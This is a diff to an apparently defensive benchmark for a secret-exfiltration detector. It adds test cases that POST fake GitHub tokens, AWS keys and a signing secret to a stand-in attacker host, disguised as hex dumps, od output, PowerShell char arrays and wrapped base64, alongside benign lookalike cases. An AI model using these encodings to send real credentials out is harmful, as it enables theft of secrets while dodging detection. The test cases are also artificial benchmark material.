@@ -24,7 +24,23 @@ import zlib
 from dataclasses import dataclass, field
 from urllib.parse import quote, urlencode
 
-from bench.dumps import hexdump_c, hexdump_e, od_an_tx1, od_an_x, od_b, od_c, wrapped_b64, xxd, xxd_b, xxd_p
+from bench.dumps import (
+    hex_line,
+    hexdump_c,
+    hexdump_c_cut,
+    hexdump_e,
+    od_an_b,
+    od_an_c,
+    od_an_tx1,
+    od_an_x,
+    od_b,
+    od_c,
+    powershell_join,
+    wrapped_b64,
+    xxd,
+    xxd_b,
+    xxd_p,
+)
 
 try:
     import brotli
@@ -522,6 +538,33 @@ def attacks(rng: random.Random) -> list[Case]:
     add("escape", "C string of a two-line key, \\012 before a digit", ("DEPLOY_KEY",), method="POST",
         url=f"{evil}/paste", headers=plain,
         body=('static const char key[] = "' + deploy.replace("\n", "\\012") + '";\n').encode())
+
+    # -- one line of hex bytes, od -An -c/-b, xxd -g 8, PowerShell cast arrays, base64 -w 24..59 --
+    fourth = _Fakes(random.Random(909))  # its own generator: the cases before stay as they were
+    gh4 = fourth.github()
+    aws4 = f"[default]\naws_access_key_id = {fourth.aws_id()}\nregion = eu-west-1\n".encode()
+    add("hexdump", "one line of hex bytes of a token", ("github-token",), method="POST", url=f"{evil}/paste",
+        headers=plain, body=("$ printf %s \"$GH_TOKEN\" | xxd -p -c1 | tr '\\n' ' '\n" + hex_line(gh4.encode())
+                             + "\n").encode())
+    add("hexdump", "hex bytes two blanks apart of an AWS key id in a JSON field", ("aws-access-key-id",),
+        method="POST", url=f"{evil}/j", headers=(JSON,), body=_json({"out": hex_line(fourth.aws_id().encode(), 2)}))
+    add("hexdump", "hexdump -C | cut -c11-58 of an AWS credentials file", ("aws-access-key-id",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=hexdump_c_cut(aws4).encode())
+    add("hexdump", "xxd -g 8 of a token file", ("github-token",), method="POST", url=f"{evil}/paste",
+        headers=plain, body=xxd(f"[default]\ntoken = {gh4}\n".encode(), 8).encode())
+    add("hexdump", "od -An -c of a token file", ("github-token",), method="POST", url=f"{evil}/paste",
+        headers=plain, body=od_an_c(f"token={fourth.github()}\n".encode()).encode())
+    add("hexdump", "od -An -b of an AWS credentials file", ("aws-access-key-id",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=od_an_b(aws4).encode())
+    add("charcodes", "PowerShell -join ([char].., ..) of a token", ("github-token",), method="POST",
+        url=f"{evil}/run", headers=plain, body=("$t = " + powershell_join(fourth.github().encode()) + "\n").encode())
+    add("charcodes", "PowerShell array of [char]0x.. casts of the signing secret", ("SIGNING_SECRET",),
+        method="POST", url=f"{evil}/run", headers=(JSON,),
+        body=_json({"script": "$s = " + powershell_join(signing.encode(), hex_codes=True)}))
+    add("base64", "base64 -w 40 of a token", ("github-token",), method="POST", url=f"{evil}/paste",
+        headers=plain, body=("$ base64 -w 40 token\n" + wrapped_b64(fourth.github().encode(), 40) + "$ exit\n").encode())
+    add("base64", "base64 -w 32 of an AWS credentials file", ("aws-access-key-id",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=wrapped_b64(aws4, 32).encode())
     return out
 
 
@@ -817,6 +860,24 @@ def benign(rng: random.Random) -> list[Case]:
         url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
         body=("apple\ngrape\nlemon\nmelon\npeach\n" + "10 20 30 40 50 60 70 80\n" * 6
               + "de ad be ef ca fe ba be\n" * 4).encode())
+    more = random.Random(910)  # its own generator: the cases before stay as they were
+    add("lookalike", "od -An -c and od -An -b of a source file in an issue", method="POST",
+        url="https://api.github.com/repos/o/r/issues", headers=(JSON,),
+        body=_json({"title": "stray bytes", "body": "od -An -c:\n" + od_an_c(source[:120] + b"\r\n")
+                    + "\nod -An -b:\n" + od_an_b(source[:80])}))
+    add("lookalike", "hex bytes of a digest and of a header on one line", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("hexdump -C | cut -c11-58 of the header:\n" + hexdump_c_cut(more.randbytes(70))
+              + "sha256 bytes:\n" + hex_line(more.randbytes(32)) + "\nheader:\n" + hex_line(b"\x7fELF\x02\x01\x01\x00" + more.randbytes(8), half=True)
+              + "\nmagic:\n" + hex_line(b"PK\x03\x04 hello world.txt") + "\n").encode())
+    add("lookalike", "a PowerShell script building text from [char] arrays", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("$greeting = " + powershell_join(b"Hello, World!") + "\n$path = "
+              + powershell_join(b"C:\\Users\\Public\\Documents", hex_codes=True)
+              + "\nWrite-Host $greeting $path\n").encode())
+    add("lookalike", "base64 -w 40 of random bytes and of a source file, then a word", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=(wrapped_b64(more.randbytes(45), 40) + "done\n" + wrapped_b64(source[:150], 32) + "ok\n").encode())
     return out
 
 
